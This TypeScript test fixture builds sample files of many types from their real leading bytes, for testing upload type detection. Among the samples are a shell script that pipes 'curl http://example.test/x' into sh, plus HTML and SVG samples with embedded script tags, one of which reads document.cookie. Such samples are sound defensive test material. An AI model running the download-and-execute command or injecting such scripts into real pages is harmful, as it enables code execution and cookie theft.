/*
 * Small files of each kind, built from their real leading bytes, for the upload tests. Each is a few
 * hundred bytes: enough for type detection, which only reads the start of a file.
 */
const bytes = (...parts: (string | number[])[]) => new Uint8Array(parts.flatMap((p) => (typeof p === "string" ? [...Buffer.from(p, "latin1")] : p)));
const padding = (n: number) => new Array<number>(n).fill(0x20);

export const sampleFiles = {
  pdf: bytes("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
  jpeg: bytes([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10], "JFIF\0", padding(64), [0xff, 0xd9]),
  png: bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13], "IHDR", padding(64)),
  webp: bytes("RIFF", [0x40, 0, 0, 0], "WEBPVP8 ", padding(64)),
  heic: bytes([0, 0, 0, 0x18], "ftypheic", [0, 0, 0, 0], "mif1heic", padding(64)),
  docx: bytes("PK\x03\x04", padding(26), "[Content_Types].xml", padding(40), "PK\x03\x04", padding(26), "word/document.xml", padding(40)),
  docm: bytes("PK\x03\x04", padding(26), "[Content_Types].xml", "word/document.xml", "word/vbaProject.bin", padding(40)),
  zip: bytes("PK\x03\x04", padding(26), "payload/readme.txt", padding(40)),
  windowsExe: bytes("MZ", [0x90, 0, 3, 0], padding(56), "PE\0\0", padding(64)),
  elf: bytes([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], padding(64)),
  machO: bytes([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1], padding(64)),
  machOFat: bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2], padding(64)),
  shellScript: bytes("#!/bin/sh\ncurl http://example.test/x | sh\n"),
  html: bytes("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"),
  svg: bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  text: bytes("Just some notes about the installation.\n"),
  gif: bytes("GIF89a", padding(64)),
};
